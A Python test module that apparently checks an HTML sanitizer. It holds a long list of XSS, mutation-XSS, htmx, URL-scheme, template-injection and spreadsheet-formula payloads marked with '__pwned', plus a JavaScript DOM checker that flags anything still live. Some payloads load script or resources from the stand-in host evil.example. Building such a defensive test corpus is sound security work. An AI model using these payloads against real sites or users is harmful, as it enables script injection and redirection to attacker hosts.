"""Texts that would run, lead away or break something, were any of them taken for more than text.

Each sets `__pwned`, or asks for something called pwned of another site. Sources: the cheat sheets
of OWASP and PortSwigger, mutation XSS as published on DOMPurify, htmx's own attributes.
"""

EVIL = "//evil.example/pwned"
SCRIPTS = (
    "<script>__pwned=1</script>",
    "</script><script>__pwned=1</script>",
    "<ScRiPt\n>__pwned=1</sCrIpT >",
    "<scr<script>ipt>__pwned=1</scr</script>ipt>",
    f"<script src={EVIL}.js></script>",
    "<script type=module>__pwned=1</script>",
    "<script>window['__pw'+'ned']=1//",
)
HANDLERS = (
    "<img src=x onerror=__pwned=1>",
    '"><img src=x onerror=__pwned=1>',
    "'><img src=x onerror=__pwned=1>",
    "<img/src/onerror=__pwned=1>",
    '" onfocus=__pwned=1 autofocus x="',
    "' onfocus=__pwned=1 autofocus x='",
    '" onmouseover="__pwned=1" style="position:fixed;inset:0',
    "x onfocus=__pwned=1 autofocus",
    "`onmouseover=__pwned=1`",
    "<input autofocus onfocus=__pwned=1>",
    "<details open ontoggle=__pwned=1>",
    "<video><source onerror=__pwned=1></video>",
    "<marquee onstart=__pwned=1>",
    "<body onload=__pwned=1>",
)
SVG = (
    "<svg onload=__pwned=1>",
    "<svg/onload=__pwned=1//",
    "<svg><script>__pwned=1</script></svg>",
    "<svg><animate onbegin=__pwned=1 attributeName=x>",
    '<svg><a xlink:href="javascript:__pwned=1"><text>x</text></a>',
    "<svg><set attributeName=href to=javascript:__pwned=1>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__pwned=1>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<math><mi xlink:href='javascript:__pwned=1'>x",
)
MUTATION = (
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned=1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=__pwned=1>'>",
    "<listing>&lt;img src=x onerror=__pwned=1&gt;</listing>",
    "<style><!--</style><img src=x onerror=__pwned=1>-->",
    "<xmp><img alt='</xmp><img src=x onerror=__pwned=1>'>",
    "<template><img src=x onerror=__pwned=1></template>",
    "<p id='</title><img src=x onerror=__pwned=1>'>",
    "</textarea><img src=x onerror=__pwned=1>",
    "</title><svg onload=__pwned=1>",
    "--><img src=x onerror=__pwned=1>",
    "]]><img src=x onerror=__pwned=1>",
    "<![CDATA[<img src=x onerror=__pwned=1>]]>",
    "&lt;script&gt;__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=__pwned=1&#62;",
    "\\u003cimg src=x onerror=__pwned=1\\u003e",
    "%3Cimg%20src=x%20onerror=__pwned=1%3E",
    "＜img src=x onerror=__pwned=1＞",
    "<img name=__pwned>",
    "<form id=__pwned><input name=attributes>",
)
LINKS = (
    "javascript:__pwned=1",
    "JaVaScRiPt:__pwned=1//",
    "java&#x09;script:__pwned=1",
    "data:text/html,<script>__pwned=1</script>",
    "vbscript:__pwned=1",
    "<a href=javascript:__pwned=1 autofocus>x</a>",
    "[x](javascript:__pwned=1)",
    "<iframe src=javascript:parent.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<object data=javascript:__pwned=1>",
    f"<embed src={EVIL}.swf>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import'{EVIL}.css'</style>",
    f"<div style=background:url({EVIL})>",
    f"<form action={EVIL}><button>x</button></form>",
    "<button formaction=javascript:__pwned=1>x</button>",
    f"<img src='{EVIL}.png?",
)
HTMX = (
    f'<div hx-get="{EVIL}" hx-trigger=load>',
    '<div hx-on::load="__pwned=1">',
    '<div hx-on="htmx:load: __pwned=1">',
    '<div hx-trigger="load[__pwned=1]" hx-get=/>',
    "<div hx-vals='js:{a:__pwned=1}' hx-post=/ hx-trigger=load>",
    f"<div data-hx-get={EVIL} data-hx-trigger=load>",
    "<div hx-headers='js:{a:__pwned=1}' hx-get=/ hx-trigger=load>",
    "<div hx-swap-oob=innerHTML:main>pwned</div>",
)
TEMPLATES = (
    "{{ 7*7 }}pwned{{ config }}",
    '{% raise "pwned" %}',
    "{% endtrans %}{{ self }}pwned",
    "${__pwned=1}#{__pwned=1}",
    "{{constructor.constructor('__pwned=1')()}}",
    "%(pwned)s %s %d %n {pwned}",
    "{pwned!r:>99}{}{0.__class__}",
    "$(pwned) `pwned` <!--#exec cmd='pwned'-->",
    "<?php pwned ?>",
    "=cmd|'/C pwned'!A0",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *SVG, *MUTATION, *LINKS, *HTMX, *TEMPLATES)

# Whatever of a page could run or lead away, found in the document that the browser has made of it.
ALIVE = """() => {
  const bad = [];
  if (window.__pwned !== undefined) bad.push('__pwned is set');
  const base = location.protocol.startsWith('http') ? location.href : 'http://here/';
  const here = new URL(base).origin;
  const all = Object.getOwnPropertyDescriptor(Element.prototype, 'attributes').get;
  for (const e of document.querySelectorAll('*')) {
    for (const a of all.call(e)) {
      const n = a.name.toLowerCase(), v = a.value.trim().toLowerCase();
      const goes = /^(xlink:)?href$|^src$|action$|^data$|^to$|^(data-)?hx-(get|post)$/.test(n);
      if (/^on|hx-on/.test(n) || n === 'srcdoc' || n === 'style') bad.push(n + '=' + a.value);
      if (goes && /^(javascript|vbscript|data:text)/.test(v)) bad.push(n + '=' + a.value);
      if (goes && v && new URL(a.value, base).origin !== here && e.localName !== 'a')
        if (!v.startsWith('data:image')) bad.push(n + '=' + a.value);
      if (/^(data-)?hx-(vals|headers|trigger|vars)$/.test(n) && /js:|javascript:|\\[/.test(v))
        bad.push(n + '=' + a.value);
    }
    if (/^(iframe|object|embed|base|style|marquee|template|math|foreignobject|animate|set)$/
        .test(e.localName)) bad.push('<' + e.localName + '>');
    if (e.localName === 'script' && !e.src) bad.push('a script of its own');
    if (e.localName === 'a' && e.host === 'evil.example') bad.push('a link to evil.example');
    for (const kind of ['mouseover', 'focus', 'toggle', 'pointerover'])
      e.dispatchEvent(new Event(kind));
  }
  if (window.__pwned !== undefined) bad.push('__pwned is set by an event');
  return [...new Set(bad)];
}"""
